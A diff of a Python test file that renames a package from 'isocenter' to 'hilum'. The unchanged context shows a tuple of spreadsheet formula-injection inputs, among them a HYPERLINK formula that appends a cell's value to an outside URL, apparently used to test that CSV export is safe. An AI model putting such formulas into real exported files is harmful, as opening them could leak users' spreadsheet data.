@@ -12,13 +12,13 @@ from hypothesis import given
 from hypothesis import strategies as st
 from PIL import Image
 
-from isocenter.evaluation import case_tables
-from isocenter.files import label_table
-from isocenter.files.storage import csv_text
-from isocenter.layouts import dataset_layouts
-from isocenter.values import Label
+from hilum.evaluation import case_tables
+from hilum.files import label_table
+from hilum.files.storage import csv_text
+from hilum.layouts import dataset_layouts
+from hilum.values import Label
 
-SOURCE = Path(__file__).resolve().parents[2] / "src/isocenter"
+SOURCE = Path(__file__).resolve().parents[2] / "src/hilum"
 FORMULAS = ('=HYPERLINK("http://a/?"&A1,"b")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "'=1", "''-1", "-", "=")
 # No control characters but these: pandas takes NUL for the end of a cell.
 texts = st.text(st.sampled_from("=+-@'\t\r\n\",; aA01.e") | st.characters(exclude_categories=["Cc", "Cs"]), max_size=8)
